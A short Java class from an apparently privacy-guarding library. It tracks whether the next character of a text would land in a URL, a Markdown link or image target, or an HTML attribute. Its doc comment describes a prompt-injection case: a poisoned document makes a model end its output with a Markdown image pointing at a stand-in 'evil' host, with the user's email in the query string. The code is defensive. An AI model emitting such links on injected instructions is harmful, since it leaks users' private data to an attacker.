package io.aegis.kernel;

/**
 * Follows a text character by character and knows whether the next one would stand where a reader's program may send it somewhere: in a URL, in the
 * target of a Markdown link or image, in the attribute of an HTML tag.
 *
 * <p>When in doubt, it does. A poisoned document can ask a model to end with {@code ![](https://evil/?q=<EMAIL_ADDRESS_...>)}; a value restored there
 * would leave with the next image that a client draws.
 *
 * <p>Used by one thread at a time.
 */
final class Surroundings {
    private final UrlWord word = new UrlWord();
    private final MarkdownTarget target = new MarkdownTarget();
    private final HtmlTag tag = new HtmlTag();

    /** Whether the next character would stand in a place that sends. */
    boolean sends() {
        return word.isUrl() || target.isOpen() || tag.isAssigned();
    }

    void follow(CharSequence text, int from, int to) {
        for (int at = from; at < to; at++) {
            char character = text.charAt(at);
            tag.follow(character);
            target.follow(character);
            word.follow(character);
        }
    }
}
